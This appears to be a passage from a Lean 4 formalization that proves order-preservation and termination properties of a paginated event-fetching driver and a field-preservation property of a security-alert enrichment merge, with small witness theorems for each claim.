lemma fetch_all_events_aux_acc (server : Nat → Params → NetOutcome) (page_size : Int) :
    ∀ (fuel : Nat) (cursor : Option String) (acc : List Dict) (page_num : Nat),
      fetch_all_events_aux server page_size fuel cursor acc page_num =
        (fetch_all_events_aux server page_size fuel cursor [] page_num).map
          (fun r => (acc ++ r.1, r.2)) := by
  intro fuel
  induction fuel with
  | zero => intro _ _ _; rfl
  | succ fuel ih =>
      intro cursor acc page_num
      simp only [fetch_all_events_aux]
      generalize fetch_page (server page_num
        { limit := page_size,
          cursor := if cursorTruthy cursor then cursor else Option.none }) = data
      cases hcd : cursorTruthy data.next_cursor
      · simp [hcd, Option.map_some']
      · simp only [hcd, if_true]
        rw [ih data.next_cursor (acc ++ data.events) (page_num + 1),
          ih data.next_cursor ([] ++ data.events) (page_num + 1), Option.map_map]
        congr 1
        funext r
        simp [List.append_assoc]

/-- An empty-accumulator run returns exactly the concatenation of the
events of its fetch trace, and a fetch count of one per trace entry. -/
lemma fetch_all_events_aux_trace (server : Nat → Params → NetOutcome) (page_size : Int) :
    ∀ (fuel : Nat) (cursor : Option String) (page_num : Nat),
      fetch_all_events_aux server page_size fuel cursor [] page_num =
        (run_trace server page_size fuel cursor page_num).map
          (fun ps => ((ps.map PageResult.events).flatten, page_num + ps.length - 1)) := by
  intro fuel
  induction fuel with
  | zero => intro _ _; rfl
  | succ fuel ih =>
      intro cursor page_num
      simp only [fetch_all_events_aux, run_trace]
      generalize fetch_page (server page_num
        { limit := page_size,
          cursor := if cursorTruthy cursor then cursor else Option.none }) = data
      cases hcd : cursorTruthy data.next_cursor
      · simp [hcd, Option.map_some', Prod.ext_iff]
      · simp only [hcd, if_true]
        rw [fetch_all_events_aux_acc,
          ih data.next_cursor (page_num + 1), Option.map_map, Option.map_map]
        congr 1
        funext ps
        simp [Prod.ext_iff]

/-!
### Claim theorems: pagination driver
-/

/-- C4.  Order preservation: whenever the driver returns, the event list it
returns is exactly the concatenation, in fetch order, of the events of the
pages its run fetched — no reordering, dropping or deduplication — and the
fetch count is one per fetched page. -/
theorem fetch_all_events_order_preserving :
    ∀ (server : Nat → Params → NetOutcome) (page_size : Int) (fuel : Nat)
      (evts : List Dict) (n : Nat),
      fetch_all_events server page_size fuel = Option.some (evts, n) →
      ∃ ps, run_trace server page_size fuel Option.none 1 = Option.some ps ∧
        evts = (ps.map PageResult.events).flatten ∧ n = ps.length := by
  intro server page_size fuel evts n h
  rw [fetch_all_events, fetch_all_events_aux_trace] at h
  cases htr : run_trace server page_size fuel Option.none 1 with
  | none => rw [htr] at h; simp at h
  | some ps =>
      rw [htr] at h
      simp only [Option.map, Option.some.injEq, Prod.mk.injEq] at h
      exact ⟨ps, rfl, h.1.symm, by omega⟩

/-- Witness for C4 at a one-page run against a constant server. -/
theorem fetch_all_events_order_preserving_witness :
    ∃ ps, run_trace (fun _ _ => NetOutcome.response 200 fallback_page) 50 1 Option.none 1 =
        Option.some ps ∧
      fallback_page.events = (ps.map PageResult.events).flatten ∧ 1 = ps.length :=
  fetch_all_events_order_preserving (fun _ _ => NetOutcome.response 200 fallback_page) 50 1
    fallback_page.events 1 (by decide)

/-- Driving the loop against a server that answers fetch `page_num + j`
with the `j`-th page of a cursor chain consumes exactly the chain: the
accumulated events are the chain's events in order and the final page
number advances by one per page. -/
lemma chain_run (page_size : Int) :
    ∀ (pages : List PageResult) (server : Nat → Params → NetOutcome) (fuel : Nat)
      (cursor : Option String) (acc : List Dict) (page_num : Nat),
      isChain pages = true → pages.length ≤ fuel →
      (∀ j params, j < pages.length →
        server (page_num + j) params =
          NetOutcome.response 200 (pages.getD j { events := [], next_cursor := Option.none })) →
      fetch_all_events_aux server page_size fuel cursor acc page_num =
        Option.some (acc ++ (pages.map PageResult.events).flatten,
          page_num + pages.length - 1) := by
  intro pages
  induction pages with
  | nil => intro server fuel cursor acc page_num hch; simp [isChain] at hch
  | cons p ps ih =>
      intro server fuel cursor acc page_num hch hlen hsrv
      cases fuel with
      | zero => simp at hlen
      | succ fuel =>
          have hp : ∀ params, fetch_page (server page_num params) = p := by
            intro params
            have h0 := hsrv 0 params (by simp)
            rw [Nat.add_zero] at h0
            rw [h0]
            rfl
          simp only [fetch_all_events_aux]
          rw [hp]
          cases ps with
          | nil =>
              have hlast : cursorTruthy p.next_cursor = false := by
                have : isChain [p] = !cursorTruthy p.next_cursor := rfl
                rw [this] at hch
                cases hcp : cursorTruthy p.next_cursor
                · rfl
                · rw [hcp] at hch; simp at hch
              rw [hlast]
              simp
          | cons q ps2 =>
              have hch2 : cursorTruthy p.next_cursor = true ∧ isChain (q :: ps2) = true := by
                have heq : isChain (p :: q :: ps2) =
                    (cursorTruthy p.next_cursor && isChain (q :: ps2)) := rfl
                rw [heq] at hch
                simpa using hch
              rw [hch2.1]
              simp only [if_true]
              have hsrv2 : ∀ j params, j < (q :: ps2).length →
                  server (page_num + 1 + j) params =
                    NetOutcome.response 200
                      ((q :: ps2).getD j { events := [], next_cursor := Option.none }) := by
                intro j params hj
                have := hsrv (j + 1) params
                  (by simp only [List.length_cons] at hj ⊢; omega)
                rw [show page_num + (j + 1) = page_num + 1 + j by omega] at this
                exact this
              rw [ih server fuel p.next_cursor (acc ++ p.events) (page_num + 1) hch2.2
                (by simp at hlen ⊢; omega) hsrv2]
              simp only [Option.some.injEq, Prod.mk.injEq]
              constructor
              · simp [List.append_assoc]
              · simp
                omega

/-- C5.  Exact termination: for every finite chain of pages in which every
page but the last carries a truthy (non-null, non-empty) cursor and the
last a falsy (null or empty) one, the driver run against a server serving
that chain terminates with exactly one fetch per page, returning all the
chain's events. -/
theorem fetch_all_events_termination :
    ∀ (pages : List PageResult) (server : Nat → Params → NetOutcome) (page_size : Int)
      (fuel : Nat),
      isChain pages = true → pages.length ≤ fuel →
      (∀ j params, j < pages.length →
        server (1 + j) params =
          NetOutcome.response 200 (pages.getD j { events := [], next_cursor := Option.none })) →
      fetch_all_events server page_size fuel =
        Option.some ((pages.map PageResult.events).flatten, pages.length) := by
  intro pages server page_size fuel hch hlen hsrv
  rw [fetch_all_events, chain_run page_size pages server fuel Option.none [] 1 hch hlen hsrv]
  have h1 : 1 + pages.length - 1 = pages.length := by omega
  rw [h1, List.nil_append]

/-- Witness for C5 at a two-page chain. -/
theorem fetch_all_events_termination_witness :
    fetch_all_events
      (fun i _ =>
        if i = 1 then
          NetOutcome.response 200
            { events := [[("pid", PyVal.int 1)]], next_cursor := Option.some "c1" }
        else
          NetOutcome.response 200
            { events := [[("pid", PyVal.int 2)]], next_cursor := Option.none })
      50 2 =
      Option.some ([[("pid", PyVal.int 1)], [("pid", PyVal.int 2)]], 2) := by
  have h := fetch_all_events_termination
    [{ events := [[("pid", PyVal.int 1)]], next_cursor := Option.some "c1" },
     { events := [[("pid", PyVal.int 2)]], next_cursor := Option.none }]
    (fun i _ =>
      if i = 1 then
        NetOutcome.response 200
          { events := [[("pid", PyVal.int 1)]], next_cursor := Option.some "c1" }
      else
        NetOutcome.response 200
          { events := [[("pid", PyVal.int 2)]], next_cursor := Option.none })
    50 2 (by decide) (by decide) ?_
  · simpa using h
  · intro j params hj
    simp only [List.length_cons, List.length_nil] at hj
    match j, hj with
    | 0, _ => rfl
    | 1, _ => rfl

/-!
### Lemmas about the dict merge
-/

/-- Lookup distributes over append: the left list wins when it binds the
key. -/
lemma find_append (a b : Dict) (k : String) :
    Dict.find (a ++ b) k =
      match Dict.find a k with
      | Option.some v => Option.some v
      | Option.none => Dict.find b k := by
  induction a with
  | nil => rfl
  | cons p a ih =>
      obtain ⟨k0, v0⟩ := p
      rw [List.cons_append, find_cons, find_cons]
      by_cases h : k0 = k
      · rw [if_pos h, if_pos h]
      · rw [if_neg h, if_neg h, ih]

/-- Filtering cannot create a binding for a key that had none. -/
lemma find_filter_none (u : Dict) (q : String × PyVal → Bool) (k : String)
    (hu : Dict.find u k = Option.none) :
    Dict.find (u.filter q) k = Option.none := by
  induction u with
  | nil => rfl
  | cons p u ih =>
      obtain ⟨k0, v0⟩ := p
      rw [find_cons] at hu
      by_cases h : k0 = k
      · rw [if_pos h] at hu
        exact absurd hu (by simp)
      · rw [if_neg h] at hu
        rw [List.filter_cons]
        by_cases hq : q (k0, v0)
        · rw [if_pos hq, find_cons, if_neg h]
          exact ih hu
        · rw [if_neg hq]
          exact ih hu

/-- The override map of the merge leaves keys that the update dict does
not bind untouched. -/
lemma find_map_override (d u : Dict) (k : String) (hu : Dict.find u k = Option.none) :
    Dict.find (d.map (fun p => (p.1, (Dict.find u p.1).getD p.2))) k = Dict.find d k := by
  induction d with
  | nil => rfl
  | cons p d ih =>
      obtain ⟨k0, v0⟩ := p
      simp only [List.map_cons]
      rw [find_cons, find_cons]
      by_cases h : k0 = k
      · rw [if_pos h, if_pos h]
        subst h
        rw [hu]
        rfl
      · rw [if_neg h, if_neg h]
        exact ih

/-- Keys that the update dict does not bind look up in a merge exactly as
in the original dict. -/
lemma find_merge (d u : Dict) (k : String) (hu : Dict.find u k = Option.none) :
    Dict.find (Dict.merge d u) k = Dict.find d k := by
  simp only [Dict.merge]
  rw [find_append, find_map_override d u k hu]
  cases hfd : Dict.find d k with
  | some v => rfl
  | none => exact find_filter_none u _ k hu

/-- A dict binds none of the keys outside its key list. -/
lemma find_eq_none_of_not_mem_keys (d : Dict) (k : String) (h : ¬ k ∈ d.map Prod.fst) :
    Dict.find d k = Option.none := by
  induction d with
  | nil => rfl
  | cons p d ih =>
      obtain ⟨k0, v0⟩ := p
      rw [find_cons]
      simp only [List.map_cons, List.mem_cons] at h
      push_neg at h
      rw [if_neg (fun hh => h.1 hh.symm)]
      exact ih h.2

/-!
### Claim theorems: enrichment orchestrator
-/

/-- C9.  Frame property of `enrich_alert`: the merge is purely additive or
overriding on the nine enrichment-specific keys, so every key of the input
alert outside that set looks up in the enriched alert exactly as in the
input (in particular no original field is dropped or changed); the input
dict itself is untouched, the merge building a new dict. -/
theorem enrich_alert_preserves_fields :
    ∀ (get_identity_from_okta get_geoip_info : PyVal → Dict) (env : String)
      (alert : Dict) (k : String),
      ¬ k ∈ enrichmentKeys →
      Dict.get (enrich_alert get_identity_from_okta get_geoip_info env alert) k =
        Dict.get alert k := by
  intro rid rgeo env alert k hk
  simp only [enrich_alert, Dict.get]
  rw [find_merge]
  exact find_eq_none_of_not_mem_keys _ k (fun hm => hk (by simpa [enrichmentKeys] using hm))

/-- Witness for C9: a non-enrichment key keeps its original value. -/
theorem enrich_alert_preserves_fields_witness :
    Dict.get
      (enrich_alert (fun _ => []) (fun _ => []) "dev" [("alert_id", PyVal.str "aa-001")])
      "alert_id" =
      Dict.get [("alert_id", PyVal.str "aa-001")] "alert_id" :=
  enrich_alert_preserves_fields (fun _ => []) (fun _ => []) "dev"
    [("alert_id", PyVal.str "aa-001")] "alert_id" (by decide)
